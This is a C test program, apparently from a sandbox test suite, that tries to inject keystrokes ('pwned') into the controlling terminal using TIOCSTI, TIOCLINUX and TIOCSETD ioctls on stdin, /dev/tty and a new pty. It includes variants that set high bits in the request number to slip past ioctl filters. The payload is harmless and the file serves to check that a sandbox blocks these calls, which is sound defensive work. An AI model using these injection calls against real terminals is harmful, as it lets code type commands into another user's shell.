/* This file is an attack program: it tries to type into the terminal that it stands on, and to
 * change how that terminal works for whoever comes after (row 11).
 *
 *     terminal            uses descriptor 0 and /dev/tty
 *
 * The text that it would type is "pwned\n": the runner looks for it at the host's side.
 */
#include "try.h"

#include <fcntl.h>
#include <sys/ioctl.h>

static void inject(const char *where, int fd)
{
    static const struct {
        const char *name;
        unsigned long request;
    } requests[] = {
        {"tiocsti", TIOCSTI},
        {"tiocsti_bit32", TIOCSTI | 1ul << 32},
        {"tiocsti_bit63", TIOCSTI | 1ul << 63},
    };
    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++) {
        char name[64];
        long r = 0;
        snprintf(name, sizeof name, "%s_%s", where, requests[i].name);
        for (const char *c = "pwned\n"; *c && r == 0; c++)
            r = syscall(SYS_ioctl, fd, requests[i].request, c);
        try_reach(name, r);
    }
    char name[64], subcode = 2; /* paste the selection */
    snprintf(name, sizeof name, "%s_tioclinux", where);
    try_reach(name, syscall(SYS_ioctl, fd, TIOCLINUX, &subcode));
    snprintf(name, sizeof name, "%s_tioclinux_bit32", where);
    try_reach(name, syscall(SYS_ioctl, fd, TIOCLINUX | 1ul << 32, &subcode));
    int discipline = 0; /* N_TTY: what it already is, so that reaching it does no harm */
    snprintf(name, sizeof name, "%s_tiocsetd", where);
    try_reach(name, syscall(SYS_ioctl, fd, TIOCSETD, &discipline));
}

int main(void)
{
    try_begin();
    inject("stdin", 0);
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd >= 0)
        inject("dev_tty", fd);
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master >= 0)
        inject("own_pty", master);
    return try_end("terminal");
}
